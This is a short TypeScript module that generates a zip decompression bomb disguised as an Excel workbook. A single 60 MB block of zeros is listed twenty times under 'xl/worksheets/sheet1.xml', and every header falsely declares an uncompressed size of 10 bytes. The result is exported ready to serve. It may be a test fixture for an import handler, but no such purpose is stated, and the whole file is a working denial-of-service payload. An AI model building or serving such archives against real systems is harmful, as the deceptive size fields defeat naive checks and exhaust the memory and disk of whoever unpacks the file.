import { deflateRawSync } from 'node:zlib';

/** An archive of 120 kB that unpacks to 1.2 GB: one member of zeros, listed twenty times, each saying it is small. */
function bomb(): Buffer {
  const name = Buffer.from('xl/worksheets/sheet1.xml');
  const packed = deflateRawSync(Buffer.alloc(60 * 1024 * 1024));
  const header = (signature: number, length: number, at: number): Buffer => {
    const bytes = Buffer.alloc(length);
    bytes.writeUInt32LE(signature, 0);
    bytes.writeUInt16LE(8, at);
    bytes.writeUInt32LE(packed.length, at + 10);
    bytes.writeUInt32LE(10, at + 14);
    bytes.writeUInt16LE(name.length, at + 18);
    return bytes;
  };
  const local = Buffer.concat([header(0x04034b50, 30, 8), name, packed]);
  const listed = Buffer.concat([header(0x02014b50, 46, 10), name]);
  const central = Buffer.concat(Array.from({ length: 20 }, () => listed));
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(20, 8);
  end.writeUInt16LE(20, 10);
  end.writeUInt32LE(central.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, central, end]);
}

/** Made once, before anything is served: packing it holds up a process for long enough to lose idle connections. */
export const BOMB = bomb();
